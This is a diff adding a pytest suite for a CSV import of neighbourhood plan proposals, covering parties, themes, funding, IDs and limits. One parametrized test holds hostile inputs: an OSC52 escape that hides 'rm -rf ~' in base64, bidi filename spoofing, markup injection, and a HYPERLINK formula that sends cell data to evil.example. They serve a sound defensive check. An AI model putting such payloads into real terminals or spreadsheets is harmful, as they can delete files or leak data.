@@ -1,0 +1,151 @@
+"""A row becomes a plan: parties, themes and odd cells; and nothing that was written is lost."""
+
+from typing import Any
+
+import pytest
+from incoming import HOSTILE, csv_table, evening_without_plans, example_evening
+
+from jury.errors import RuleBroken, WrongInput
+from jury.export.formats import csv_bytes
+from jury.export.sheets import plans_sheet
+from jury.intake.plans.proposals import ProposalsImport, plan_proposals
+from jury.intake.questions import Answers
+from jury.intake.tables.delimited import read_delimited
+from jury.intake.tables.reading import read_table
+from jury.model.evening import Evening
+
+
+def plan(text: str, evening: Evening | None = None, **answers: Any) -> ProposalsImport:
+    return plan_proposals(csv_table(text), evening or evening_without_plans(), Answers(**answers))
+
+
+def only(text: str) -> dict[str, Any]:
+    (row,) = plan(text).added.values()
+    return row
+
+
+def test_the_first_party_leads_and_the_others_are_partners_by_name_or_id() -> None:
+    row = only('titel;Wie doen er mee?\nx;"GGZ oeverlicht;woonkring;De Gemeente Rietermonde;"\n')
+    assert (row["lead"], row["partners"]) == ("oeverlicht", ["woonkring", "gemeente"])
+
+
+def test_parties_with_commas_between_are_split_where_one_is_known() -> None:
+    row = only('titel;Wie doen er mee?\nx;"Woonkring Rietermonde, Kerk aan de Vaart"\n')
+    assert (row["lead"], row["partners"]) == ("woonkring", ["kerk-aan-de-vaart"])
+
+
+def test_an_unknown_party_comes_in_with_the_plan_and_is_said() -> None:
+    found = plan('titel;Wie doen er mee?\nx;"Woonkring Rietermond;Kerk aan de Vaart;"\ny;Kerk aan de vaart\n')
+    assert found.parties == {
+        "woonkring-rietermond": {"name": "Woonkring Rietermond"},
+        "kerk-aan-de-vaart": {"name": "Kerk aan de Vaart"},
+    }
+    assert "Nieuwe partij: ‘Woonkring Rietermond’. Dat lijkt op ‘Woonkring Rietermonde’." in found.notices
+
+
+def test_an_unknown_theme_is_proposed() -> None:
+    found = plan("titel,thema\nx,Wonen  en ZORG\ny,Sport\n")
+    assert [row["theme"] for row in found.added.values()] == ["wonen_zorg", "sport"]
+    assert found.themes == {"sport": {"name": "Sport"}}
+
+
+def test_a_row_that_stays_out_brings_no_party_along() -> None:
+    assert plan("titel;Wie doen er mee?\nTest;Bedrijf X\n", skip=frozenset({2})).parties == {}
+
+
+def test_funding_is_by_party_and_a_line_that_does_not_fit_is_kept() -> None:
+    row = only('titel;Wie betaalt mee?\nx;"Gemeente Rietermonde: € 2.500\nwij zoeken nog"\n')
+    assert row["funding"] == [{"party": "gemeente", "eur": "2500"}]
+    assert row["extra"] == {"Wie betaalt mee?": "Gemeente Rietermonde: € 2.500 wij zoeken nog"}
+
+
+def test_an_answer_that_is_no_yes_or_no_is_no_consent_and_is_kept() -> None:
+    row = only("titel;Mogen wij uw naam noemen?\nx;misschien\n")
+    assert "consent_name" not in row
+    assert row["extra"] == {"Mogen wij uw naam noemen?": "misschien"}
+
+
+def test_paragraphs_become_one_text() -> None:
+    assert only('titel,samenvatting\nx,"Eerst  dit.\n\nDan dat."\n')["summary"] == "Eerst dit. Dan dat."
+
+
+def test_what_looks_like_a_formula_is_text_and_our_own_apostrophe_goes() -> None:
+    row = only("titel,droom,grenzen\n'=Kom Binnen,=De warmste straat!,'t Sluisje\n")
+    assert (row["title"], row["dream"], row["limits"]) == ("=Kom Binnen", "=De warmste straat!", "'t Sluisje")
+
+
+def test_a_row_without_a_title_is_a_question() -> None:
+    (question,) = plan("titel,thema\n,Wonen en zorg\n").questions
+    assert (question.code, question.options[0].flag) == ("row_without_title", "--skip 2")
+
+
+def test_a_row_that_looks_like_a_test_can_be_kept() -> None:
+    found = plan("titel\nTest de buurt\n", keep=frozenset({2}))
+    assert found.questions == ()
+    assert [row["title"] for row in found.added.values()] == ["Test de buurt"]
+
+
+def test_a_row_number_that_is_not_there_is_refused() -> None:
+    with pytest.raises(WrongInput, match="geen rij 1 "):
+        plan("titel\nx\n", skip=frozenset({1}))
+
+
+def test_ids_of_our_own_keep_their_zeros_and_the_others_get_the_next_number() -> None:
+    assert list(plan("id,title\n01,a\n1,b\nV03,c\n,d\n").added) == ["01", "1", "V03", "V04"]
+
+
+@pytest.mark.parametrize(("sample", "row"), [("c36_dup_ids.csv", "Rij 4"), ("c40_nfc_nfd.csv", "Rij 3")])
+def test_ids_that_are_the_same_are_refused_with_their_rows(sample: str, row: str) -> None:
+    with pytest.raises(WrongInput, match=f"{row}.* in rij 2"):
+        plan_proposals(read_table(HOSTILE / sample), evening_without_plans())
+
+
+@pytest.mark.parametrize(
+    ("sample", "field", "text"),
+    [
+        ("c01_osc52_st.csv", "title", "Solar␛]52;c;cm0gLXJmIH4=␛\\ farm"),
+        ("c08_bidi.csv", "title", "invoice\\u202egpj.exe \\u2066a\\u2069 \\u200f"),
+        ("c10_rich_click.csv", "title", "[@click=app.quit]Nice[/] project"),
+        ("c12_rich_edge.csv", "email", "\\[b] [[ ]] $x [$y] [/"),
+        ("c14_md_inject.csv", "title", "x | 10 | 10 | | WINNER | 99 |"),
+        ("c17_formula.csv", "title", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
+        ("c20_utf8_bom.csv", "title", "Équipe"),
+        ("c22_utf16le.csv", "title", "Café"),
+    ],
+)
+def test_hostile_texts_come_in_as_the_text_they_are(sample: str, field: str, text: str) -> None:
+    found = plan_proposals(read_table(HOSTILE / sample), evening_without_plans())
+    assert found.added["1"][field] == text
+
+
+def test_titles_that_look_alike_are_said() -> None:
+    found = plan("titel\nKom Binnen\nKоm Binnеn\n")
+    assert any("Rij 3 (‘Kоm Binnеn’) lijkt op rij 2" in notice for notice in found.notices)
+
+
+def test_more_plans_than_an_evening_has_are_refused() -> None:
+    with pytest.raises(WrongInput, match="meer dan 1000 plannen"):
+        plan("titel\n" + "".join(f"plan {n}\n" for n in range(1001)))
+
+
+def test_more_new_parties_than_an_evening_has_are_refused() -> None:
+    names = ";".join(f"P{n}" for n in range(1001))
+    with pytest.raises(WrongInput, match="1000 nieuwe partijen"):
+        plan(f'titel;Wie doen er mee?\nx;"{names}"\n', evening_without_plans())
+
+
+def test_after_freezing_plans_come_in_only_with_a_reason() -> None:
+    evening = Evening({**evening_without_plans().records, "state": {(): {"phase": "round"}}})
+    event = plan("titel\nNakomer\n", evening).event
+    with pytest.raises(RuleBroken):
+        event.decided(evening)
+    assert event.decided(evening, "te laat bezorgd door de post")
+
+
+def test_the_plans_of_our_own_export_come_back_equal() -> None:
+    exported = read_delimited(csv_bytes(plans_sheet(example_evening())), "plannen.csv")
+    found = plan_proposals(exported, evening_without_plans())
+    back = evening_without_plans().after(found.event.changes(evening_without_plans()))
+    wanted = {plan.id: plan._replace(nr=0, sheet=False) for plan in example_evening().listed_proposals}
+    assert {plan.id: plan._replace(nr=0) for plan in back.listed_proposals} == wanted
+    assert found.questions == ()
